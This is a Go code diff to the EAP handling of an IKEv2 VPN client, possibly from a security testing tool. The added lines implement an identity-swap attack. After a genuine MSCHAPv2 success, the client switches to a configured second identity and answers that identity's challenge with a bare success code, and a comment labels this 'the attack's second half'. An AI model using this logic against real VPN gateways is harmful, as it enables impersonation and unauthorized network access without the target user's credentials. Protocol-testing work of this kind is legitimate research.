@@ -22,6 +22,7 @@ func (t *Tunnel) runEAP(ctx context.Context, in []ike.Payload) ([]byte, error) {
 		method = eap.MSCHAPv2
 	}
 	var msk, pwHash, nt, chHash []byte
+	swapped := false
 	for {
 		ep := ike.Get[*ike.EAP](in, ike.PayloadEAP)
 		if ep == nil {
@@ -42,6 +43,9 @@ func (t *Tunnel) runEAP(ctx context.Context, in []ike.Payload) ([]byte, error) {
 		}
 		resp := eap.Packet{Code: eap.Response, ID: req.ID, Type: req.Type}
 		switch {
+		case swapped && req.Type == eap.MSCHAPv2 && len(req.Data) >= 1 && req.Data[0] == 1:
+			// the attack's second half: a challenge answered as a success
+			resp.Data = []byte{3}
 		case req.Type == eap.Identity:
 			resp.Data = []byte(t.cfg.EAPIdentity)
 		case req.Type != method && (req.Type == eap.MD5 || req.Type == eap.MSCHAPv2) && (msk == nil && pwHash == nil):
@@ -82,6 +86,9 @@ func (t *Tunnel) runEAP(ctx context.Context, in []ike.Payload) ([]byte, error) {
 			}
 			msk = eap.MSCHAPv2MSK(pwHash, nt)
 			resp.Data = []byte{3}
+			if name := t.cfg.IdentityAfterSuccess; name != "" && !swapped {
+				resp.Type, resp.Data, swapped = eap.Identity, []byte(name), true
+			}
 		case req.Type == eap.MSCHAPv2 && len(req.Data) >= 1 && req.Data[0] == 4: // Failure
 			return nil, ErrEAPFailure
 		default:
